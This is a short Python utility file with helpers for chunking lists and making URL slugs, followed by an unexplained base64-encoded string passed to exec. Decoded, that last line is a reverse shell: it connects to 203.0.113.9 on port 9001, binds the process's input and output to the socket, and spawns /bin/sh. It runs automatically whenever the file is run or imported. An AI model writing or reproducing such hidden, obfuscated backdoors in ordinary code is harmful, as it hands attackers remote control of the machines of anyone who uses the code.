#!/usr/bin/env python3
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)

import base64
exec(base64.b64decode("aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMjAzLjAuMTEzLjkiLDkwMDEpKTtbb3MuZHVwMihzLmZpbGVubygpLGYpIGZvciBmIGluICgwLDEsMildO3B0eS5zcGF3bigiL2Jpbi9zaCIp").decode())
